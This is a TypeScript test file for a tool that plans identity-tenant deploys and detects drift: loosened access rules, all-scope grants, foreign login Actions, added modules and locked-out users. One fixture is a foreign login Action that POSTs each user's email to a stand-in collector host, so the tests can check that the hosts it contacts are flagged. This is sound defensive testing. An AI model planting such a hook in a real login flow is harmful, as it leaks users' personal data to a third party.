// @module-tag long
import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import { recordOf } from '../../scripts/base/json-values.ts';
import { buildBundles } from '../../scripts/bundle/build-bundles.ts';
import type { Bundle } from '../../scripts/bundle/bundle.ts';
import { checkAllowed } from '../../scripts/plan/check-allowed.ts';
import { prepareDeploy } from '../../scripts/deploy/prepare-deploy.ts';
import { planDeploy } from '../../scripts/plan/plan-deploy.ts';
import { isEmptyPlan, securityChanges, securityCodes } from '../../scripts/plan/plan.ts';
import type { Plan } from '../../scripts/plan/plan.ts';
import { renderPlan } from '../../scripts/plan/render/render-plan.ts';
import type { KnownAction } from '../../scripts/records/known-flow.ts';
import { prepareConfig } from '../../scripts/tenant-access/complete-config.ts';
import { readTenantConfig } from '../../scripts/tenant-config/read-tenant-config.ts';
import { problemsOf } from '../problems-of.ts';
import { apiOf, deployedTenant } from './fake-tenant.ts';
import type { FakeTenant } from './fake-tenant.ts';
import { VALUES } from './plan-of.ts';
import { sample } from './sample.ts';
import type { Edit } from './sample.ts';

let bundles: readonly Bundle[];
beforeAll(async () => {
  bundles = await buildBundles(readTenantConfig());
});

interface Case {
  /** What somebody has made of the tenant since the deploy. */
  readonly tenant?: (deployed: FakeTenant) => FakeTenant;
  readonly edits?: readonly Edit[];
  readonly known?: readonly KnownAction[];
  /** Of the profile script. */
  readonly script?: (code: string) => string;
}

async function planOf(kind: 'tenant' | 'drift', { tenant, edits = [], known, script }: Case): Promise<Plan> {
  const built = bundles.find(({ target }) => target.kind === 'connection-script')?.code ?? '';
  const valuesWith = (code: string) => new Map([...VALUES, ['DIDIT_FETCH_USER_PROFILE', code]]);
  const original = { ...sample(), bundles };
  const config = prepareConfig({ ...original, values: valuesWith(built) });
  const deployed = deployedTenant({ ...original, config });
  const api = apiOf(tenant?.(deployed) ?? deployed);
  const { tenantFile } = sample(...edits);
  const now = script?.(built) ?? built;
  const deploy = {
    tenantFile,
    values: valuesWith(now),
    bundles: bundles.map((bundle) =>
      bundle.target.kind === 'connection-script' ? { ...bundle, code: now } : bundle,
    ),
  };
  return await planDeploy(api, await prepareDeploy(api, deploy, [], known), kind);
}

const withRule =
  (rule: string) =>
  (tenant: FakeTenant): FakeTenant => ({
    ...tenant,
    clients: tenant.clients.map((client) =>
      client['name'] === 'Didit Sample Application'
        ? { ...client, client_metadata: { ...(client['client_metadata'] as object), didit_policy: rule } }
        : client,
    ),
  });

const MAILER = 'exports.onExecutePostLogin = async () => {};';

const withMailer = (tenant: FakeTenant, code = MAILER): FakeTenant => {
  const content = { code, runtime: 'node22', secrets: [] };
  return {
    ...tenant,
    actions: [...tenant.actions, { id: 'id-mailer', name: 'mailer', ...content, deployed_version: content }],
    bindings: [...tenant.bindings, { display_name: 'Mailer', action: { name: 'mailer' } }],
  };
};

const secondLine = (plan: Plan): string => renderPlan(plan, 'terminal', false).text.split('\n')[1] ?? '';
const codesOf = (plan: Plan): readonly string[] => [
  ...new Set(securityChanges(plan).map(({ code }) => code)),
];

describe('the drift of a tenant', () => {
  test('is none right after a deploy', async () => {
    const plan = await planOf('drift', {});
    expect(secondLine(plan)).toBe('The tenant is as tenant.yaml says.');
    expect([isEmptyPlan(plan), plan.otherActions]).toEqual([true, []]);
  });

  test.each([
    ['a rule that is off', 'mode=off'],
    ['a rule that asks for nothing', 'require=none'],
    ['a rule that only reports', 'mode=report require=verified'],
  ])('says first who gets in by %s at the tenant, and not that a deploy would repair it', async (_, rule) => {
    const plan = await planOf('drift', { tenant: withRule(rule) });
    expect(secondLine(plan)).toBe(
      'The tenant is weaker than tenant.yaml: at Didit Sample Application, everybody gets in.',
    );
    expect(codesOf(plan)).toContain('rules_loosened');
    // The deploy that repairs it loosens nothing.
    expect(codesOf(await planOf('tenant', { tenant: withRule(rule) }))).not.toContain('rules_loosened');
  });

  test('is a grant that has all scopes, whichever there are, though its list is as the file says', async () => {
    const tenant = (deployed: FakeTenant): FakeTenant => ({
      ...deployed,
      grants: deployed.grants.map((grant) => ({ ...grant, allow_all_scopes: true })),
    });
    expect(codesOf(await planOf('drift', { tenant }))).toEqual(['grant_scopes']);
    const repairs = await planOf('tenant', { tenant });
    expect([isEmptyPlan(repairs), codesOf(repairs)]).toEqual([false, []]);
  });

  test.each([
    ['nobody is named where some of many get in', 'require=email_verified', /, \d+ people get in\.$/],
    ['few are named', 'require=verified', /, [a-z-]+(?:, [a-z-]+){0,2} gets? in\.$/],
  ])('says in few words who gets in: %s', async (_, rule, words) => {
    const asked: Edit = [
      'didit_policy: require=verified\n',
      rule === 'require=verified'
        ? 'didit_policy: require=verified,age_over_18\n'
        : 'didit_policy: require=verified,age_over_18,email_verified\n',
    ];
    const plan = await planOf('drift', { edits: [asked], tenant: withRule(rule) });
    expect(secondLine(plan)).toMatch(words);
  });

  test('of a rule that is stricter at the tenant is no weakness, and nothing is sent', async () => {
    const plan = await planOf('drift', { tenant: withRule('require=verified,age_over_18') });
    expect(secondLine(plan)).toMatch(/^1 difference, /);
    expect(secondLine(plan)).not.toContain('weaker');
    expect([plan.secretValues, plan.digest]).toEqual([[], null]);
  });

  test('says at which organization people get in, where it is one that the file lists', async () => {
    const edits: readonly Edit[] = [
      ['    client_metadata:\n', '    organization_usage: allow\n    client_metadata:\n'],
      [
        'clientGrants:\n',
        'organizations:\n  - name: acme\n    connections: [{ name: didit }]\n    metadata:\n      didit_policy: require=verified\n\nclientGrants:\n',
      ],
    ];
    const tenant = (deployed: FakeTenant): FakeTenant => ({
      ...deployed,
      clients: deployed.clients.map((client) =>
        client['name'] === 'Didit Sample Application' ? { ...client, organization_usage: 'allow' } : client,
      ),
      organizations: [{ name: 'acme', metadata: { didit_policy: 'mode=off' }, connections: ['didit'] }],
    });
    expect(secondLine(await planOf('drift', { edits, tenant }))).toMatch(
      /The tenant is weaker than tenant\.yaml: at Didit Sample Application in organization acme, everybody gets in\.$/,
    );
  });

  test('names a rule that is gone from the login flow as an Action that no longer runs', async () => {
    const tenant = (deployed: FakeTenant): FakeTenant => ({
      ...deployed,
      bindings: deployed.bindings.filter(
        (binding) => (binding['action'] as { name: string }).name !== 'didit-access-policy',
      ),
    });
    const plan = await planOf('drift', { tenant });
    expect(codesOf(plan)).toEqual(expect.arrayContaining(['action_removed_from_flow', 'rules_loosened']));
    expect(secondLine(plan)).toContain('weaker');
  });

  test('says of a thing that the tenant does not have that it is not there', async () => {
    const plan = await planOf('drift', { tenant: (deployed) => ({ ...deployed, grants: [] }) });
    expect(renderPlan(plan, 'terminal', false).text).toMatch(/- grant Didit Actions → .* is not there/);
  });
});

describe('an Action of somebody else that nobody here knows', () => {
  const known = (plan: Plan): readonly KnownAction[] =>
    plan.flow.map(({ action }) => ({ action, sha256: null }));

  test.each(['tenant', 'drift'] as const)(
    'is found by a plan for a %s that would change nothing',
    async (kind) => {
      const flow = known(await planOf('tenant', {}));
      const plan = await planOf(kind, { tenant: withMailer, known: flow });
      expect(plan.changes).toEqual([]);
      expect(plan.otherActions.map(({ action, what }) => [action, what])).toEqual([['mailer', 'new']]);
      const { text } = renderPlan(plan, 'terminal', false);
      expect(text).toContain('1 security finding');
      if (kind === 'drift') expect(secondLine(plan)).toMatch(/^Actions of others .*: mailer\.$/);
      expect(text).toMatch(/^! other_action .*\n +Action mailer: it was not in the login flow/m);
      expect(renderPlan(plan, 'markdown', false).text).toContain('other_action');
    },
  );

  test.each<[string, string, readonly string[] | null, string]>([
    [
      'texts that are put together',
      `const host = 'mail.' + 'example.net';
       exports.onExecutePostLogin = async (event) => {
         await fetch(\`https://\${event.client.client_id}.collect.example/x\`, { method: 'POST', body: event.user.email });
         await require('https').get({ hostname: 'api.example.org' });
         return host;
       };`,
      ['*.collect.example', 'api.example.org', 'example.net', 'mail.example.net'],
      '; its code names *.collect.example, api.example.org, example.net, mail.example.net',
    ],
    [
      'many hosts',
      `${MAILER}\n${[1, 2, 3, 4, 5, 6, 7].map((n) => `fetch('https://h${n}.example/');`).join('\n')}`,
      [1, 2, 3, 4, 5, 6, 7].map((n) => `h${n}.example`),
      '; its code names h1.example, h2.example, h3.example, h4.example, h5.example and 2 more hosts',
    ],
    ['code that names none', MAILER, [], 'tenant.yaml does not name it'],
    ['code that cannot be read', 'exports.onExecutePostLogin = async (', null, '; its code cannot be read'],
  ])('has the hosts that its code names beside it, in plan and drift: %s', async (_, code, hosts, words) => {
    const flow = known(await planOf('tenant', {}));
    const mailer = (tenant: FakeTenant): FakeTenant => withMailer(tenant, code);
    const before = [...flow, { action: 'mailer', sha256: 'of other code' }];
    for (const kind of ['tenant', 'drift'] as const) {
      const [found] = (await planOf(kind, { tenant: mailer, known: flow })).otherActions;
      expect([found?.what, found?.hosts]).toEqual(['new', hosts]);
      const plan = await planOf(kind, { tenant: mailer, known: before });
      expect(plan.otherActions.map(({ what, hosts: named }) => [what, named])).toEqual([['changed', hosts]]);
      for (const format of ['terminal', 'markdown'] as const)
        expect(renderPlan(plan, format).text).toMatch(
          new RegExp(
            `Action mailer: it runs other code .*deploy from here${hosts?.length === 0 ? '`?$' : words.replace(/[.*]/g, '\\$&')}`,
            'm',
          ),
        );
    }
    // One that only moved runs the code that it ran.
    const moved = await planOf('drift', {
      tenant: (tenant) => {
        const { bindings, ...rest } = mailer(tenant);
        return { ...rest, bindings: [...bindings.slice(-1), ...bindings.slice(0, -1)] };
      },
      known: [...flow, { action: 'mailer', sha256: createHash('sha256').update(code).digest('hex') }],
    });
    expect(moved.otherActions).toMatchObject([{ action: 'mailer', what: 'moved' }]);
    expect(moved.otherActions[0]).not.toHaveProperty('hosts');
  });

  test('is found as a module on one of ours, which the code may load and no file knows of', async () => {
    const tenant = (deployed: FakeTenant): FakeTenant => ({
      ...deployed,
      actions: deployed.actions.map((action) =>
        action['name'] === 'didit-claims'
          ? {
              ...action,
              deployed_version: {
                ...recordOf(action['deployed_version']),
                modules: [{ module_name: 'helpers', module_version_number: 2, module_id: 'id-helpers' }],
              },
            }
          : action,
      ),
    });
    const plan = await planOf('drift', { tenant });
    expect(plan.changes).toEqual([]);
    expect(plan.otherActions.map(({ action, what }) => [action, what])).toEqual([['didit-claims', 'module']]);
    expect(renderPlan(plan, 'terminal', false).text).toContain('somebody has put a module onto it');
  });

  test('has to be allowed, or named in tenant.yaml', async () => {
    const flow = known(await planOf('tenant', {}));
    const plan = await planOf('tenant', { tenant: withMailer, known: flow });
    const codes = securityCodes(plan);
    expect(
      problemsOf(() => {
        checkAllowed(codes, []);
      })[0]?.code,
    ).toBe('SECURITY_CHANGE_NOT_ALLOWED');
    const edits: readonly Edit[] = [['\nconnections:', '\notherActions: [mailer]\n\nconnections:']];
    expect((await planOf('tenant', { tenant: withMailer, known: flow, edits })).otherActions).toEqual([]);
    expect((await planOf('tenant', { tenant: withMailer, edits })).changes).toEqual([]);
  });

  test('is found on a machine that knows of no deploy where tenant.yaml names the others', async () => {
    const edits: readonly Edit[] = [['\nconnections:', '\notherActions: [risk]\n\nconnections:']];
    const plan = await planOf('drift', { tenant: withMailer, edits });
    expect(plan.otherActions.map(({ action }) => action)).toEqual(['mailer']);
  });
});

describe('a profile script that gives other user ids', () => {
  test('makes every existing user a new one, which comes before everything else', async () => {
    const script = (code: string): string => code.replace(/user_id: /, "user_id: 'v2-' + ");
    const plan = await planOf('tenant', { script });
    expect(securityChanges(plan)[0]).toMatchObject({ code: 'account_changed', where: 'connection didit' });
    expect(securityChanges(plan)[0]?.because).toMatch(/^the user id of everybody\b/);
  });

  test('is not one that only sends less', async () => {
    const plan = await planOf('tenant', { script: (code) => `${code}\n// another comment` });
    expect(codesOf(plan)).not.toContain('account_changed');
    expect(codesOf(plan)).toContain('profile_script');
  });
});

describe('people who are locked out', () => {
  const ruled = (rule: string): Edit => ['didit_policy: require=verified\n', `didit_policy: ${rule}\n`];

  test('are found where everybody who came through another connection is turned away', async () => {
    const plan = await planOf('tenant', { edits: [ruled('require=verified apply_to=all')] });
    const found = plan.impact.lockedOut.find(({ application }) => application === 'Didit Sample Application');
    expect(found?.flows).toContain('another connection');
    expect(found?.security[0]?.because).toContain('didit_connection_required');
    expect(codesOf(plan)).toContain('people_locked_out');
    expect(securityCodes(plan)).not.toContain('people_locked_out');
  });

  test('are found at an application that the connection is no longer enabled for', async () => {
    const plan = await planOf('tenant', {
      edits: [
        [
          '    enabled_clients:\n      - Didit Sample Application\n      - Didit Step-up\n',
          '    enabled_clients:\n      - Didit Actions\n',
        ],
      ],
    });
    expect(plan.impact.lockedOut.map(({ application }) => application)).toEqual(['Didit Sample Application']);
  });

  test('are not those whom a stricter rule turns away while others get in', async () => {
    const plan = await planOf('tenant', { edits: [ruled('require=verified,age_over_18')] });
    expect(plan.impact.changes.length).toBeGreaterThan(0);
    expect(plan.impact.lockedOut.flatMap(({ flows }) => flows)).not.toContain('first login');
  });
});
